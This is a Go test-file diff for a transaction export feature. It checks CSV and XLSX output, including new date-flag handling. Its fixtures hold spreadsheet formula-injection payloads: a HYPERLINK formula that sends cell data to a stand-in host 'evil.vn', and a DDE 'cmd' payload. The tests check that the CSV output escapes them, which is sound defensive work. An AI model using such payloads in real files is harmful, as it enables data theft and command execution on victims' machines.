@@ -34,6 +34,12 @@ func transactions() (list []app.Transaction) {
 		if i%3 == 1 {
 			t.Type = app.Out
 		}
+		switch i {
+		case 2: // only its day is known
+			t.Time, t.DateOnly = time.Date(2026, 11, 21, 0, 0, 0, 0, zone), true
+		case 3:
+			t.Time, t.DateFlaw = t.CreatedAt, app.DateImpossible
+		}
 		list = append(list, t)
 	}
 	return list
@@ -60,11 +66,13 @@ func TestCSV(t *testing.T) {
 	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
 	must(t, err)
 	want := [][]string{
-		{"Mã baoco", "Thời gian", "Ngân hàng", "Số tài khoản", "Tiền vào", "Tiền ra", "Nội dung", "Mã giao dịch", "Ghi nhận lúc"},
-		{"1", "2026-11-21 10:59:00", "ACB", "0072413870", "1549000", "", "DH10293 thanh toán", "FT00A", "2026-11-21 11:00:01"},
-		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1549001", `'=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B", "2026-11-21 11:00:01"},
+		{"Mã baoco", "Thời gian", "Ngân hàng", "Số tài khoản", "Tiền vào", "Tiền ra", "Nội dung", "Mã giao dịch", "Ghi nhận lúc", "Ngày giờ là lúc nhận"},
+		{"1", "2026-11-21 10:59:00", "ACB", "0072413870", "1549000", "", "DH10293 thanh toán", "FT00A", "2026-11-21 11:00:01", "0"},
+		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1549001", `'=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B", "2026-11-21 11:00:01", "0"},
+		{"3", "2026-11-21", "ACB", "0072413870", "1549002", "", "'+cmd|' /C calc'!A0", "FT00C", "2026-11-21 11:00:01", "0"},
+		{"4", "2026-11-21 11:00:01", "ACB", "0072413870", "1549003", "", "'-2+3", "FT00D", "2026-11-21 11:00:01", "1"},
 	}
-	if diff := cmp.Diff(want, rows[:3]); diff != "" {
+	if diff := cmp.Diff(want, rows[:5]); diff != "" {
 		t.Error(diff)
 	}
 	if len(rows) != len(contents)+1 {
@@ -92,11 +100,13 @@ func TestXLSX(t *testing.T) {
 	rows, err := f.GetRows(names[0])
 	must(t, err)
 	want := [][]string{
-		{"baoco id", "Transaction date", "Bank", "Account number", "Money in", "Money out", "Content", "Transaction number", "Recorded at"},
-		{"1", "2026-11-21 10:59:00", "ACB", "0072413870", "1,549,000", "", "DH10293 thanh toán", "FT00A", "2026-11-21 11:00:01"},
-		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1,549,001", `=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B", "2026-11-21 11:00:01"},
+		{"baoco id", "Transaction date", "Bank", "Account number", "Money in", "Money out", "Content", "Transaction number", "Recorded at", "Date flagged"},
+		{"1", "2026-11-21 10:59:00", "ACB", "0072413870", "1,549,000", "", "DH10293 thanh toán", "FT00A", "2026-11-21 11:00:01", "0"},
+		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1,549,001", `=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B", "2026-11-21 11:00:01", "0"},
+		{"3", "2026-11-21", "ACB", "0072413870", "1,549,002", "", "+cmd|' /C calc'!A0", "FT00C", "2026-11-21 11:00:01", "0"},
+		{"4", "2026-11-21 11:00:01", "ACB", "0072413870", "1,549,003", "", "-2+3", "FT00D", "2026-11-21 11:00:01", "1"},
 	}
-	if diff := cmp.Diff(want, rows[:3]); diff != "" {
+	if diff := cmp.Diff(want, rows[:5]); diff != "" {
 		t.Error(diff)
 	}
 	if len(rows) != len(contents)+1 {
@@ -131,7 +141,7 @@ func TestReadBack(t *testing.T) {
 					if row.Fault != nil {
 						t.Errorf("row %d: %+v", want.ID, row.Fault)
 					}
-					got := app.Transaction{ID: want.ID, Bank: row.Gateway, AccountNumber: row.AccountNumber, Number: row.Number, Type: row.Type, Amount: row.Amount, Content: want.Content, Time: row.Time, CreatedAt: want.CreatedAt}
+					got := app.Transaction{ID: want.ID, Bank: row.Gateway, AccountNumber: row.AccountNumber, Number: row.Number, Type: row.Type, Amount: row.Amount, Content: want.Content, Time: row.Time, DateOnly: want.DateOnly, DateFlaw: want.DateFlaw, CreatedAt: want.CreatedAt}
 					if diff := cmp.Diff(want, got); diff != "" {
 						t.Error(diff)
 					}
